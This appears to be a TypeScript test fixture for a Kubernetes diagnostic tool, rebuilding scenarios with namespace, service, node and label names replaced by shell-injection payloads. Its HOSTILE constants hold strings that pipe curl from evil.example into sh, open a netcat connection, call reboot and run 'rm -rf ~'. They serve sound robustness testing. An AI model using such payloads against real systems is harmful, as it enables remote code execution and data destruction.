/**
 * A scenario of the corpus rebuilt with hostile names: the namespace, the Service (and so its
 * pods, its app label value and every kube-proxy comment about it), the nodes and the label key
 * carry shell payloads. Built in memory with the scenario kit, never through snapshot loading,
 * which refuses such names.
 */
import { buildScenarioSnapshot } from './scenario-kit/index.js';
import type { LoadedScenario } from '../scenarios/load.js';
import { DEFAULT_TARGET } from '../scenarios/scenario.js';
import type { Ask } from '../../src/run/question.js';
import type { Snapshot } from '../../src/snapshot/schema.js';

/** What each name becomes: every shell metacharacter, quotes, spaces, command substitutions. */
export const HOSTILE = {
  shop: 'shop;curl${IFS}-s${IFS}evil.example|sh;#',
  frontend: 'frontend$(curl${IFS}evil.example)&&id',
  'node-1': "node-1'`reboot`'",
  'node-2': 'node-2 <in >out&&nc${IFS}evil.example${IFS}9&',
} as const;
/** The label key `app` (Service selectors, pod labels). */
export const HOSTILE_LABEL_KEY = 'app;rm${IFS}-rf${IFS}~';

const NAME = new RegExp(Object.keys(HOSTILE).join('|'), 'g');
const swap = (s: string): string => s.replace(NAME, (m) => HOSTILE[m as keyof typeof HOSTILE]);

/** A deep copy with every name swapped, in values and in keys (`ns/name` records, label maps). */
export function renamed<T>(v: T): T {
  if (typeof v === 'string') return swap(v) as T;
  if (Array.isArray(v)) return v.map((x: unknown) => renamed(x)) as T;
  if (v !== null && typeof v === 'object') {
    return Object.fromEntries(Object.entries(v).map(([k, x]) => [k === 'app' ? HOSTILE_LABEL_KEY : swap(k), renamed(x)])) as T;
  }
  return v;
}

export interface HostileScenario {
  snapshot: Snapshot;
  ask: Ask;
}

export function hostileScenario(s: LoadedScenario): HostileScenario {
  const target = renamed(s.scenario.target ?? DEFAULT_TARGET);
  const snapshot = buildScenarioSnapshot(renamed(s.scenario.spec), { target: renamed(s.scenario.gather ?? s.scenario.target ?? DEFAULT_TARGET) });
  return { snapshot, ask: { ...target, ...renamed(s.scenario.ask ?? {}) } };
}
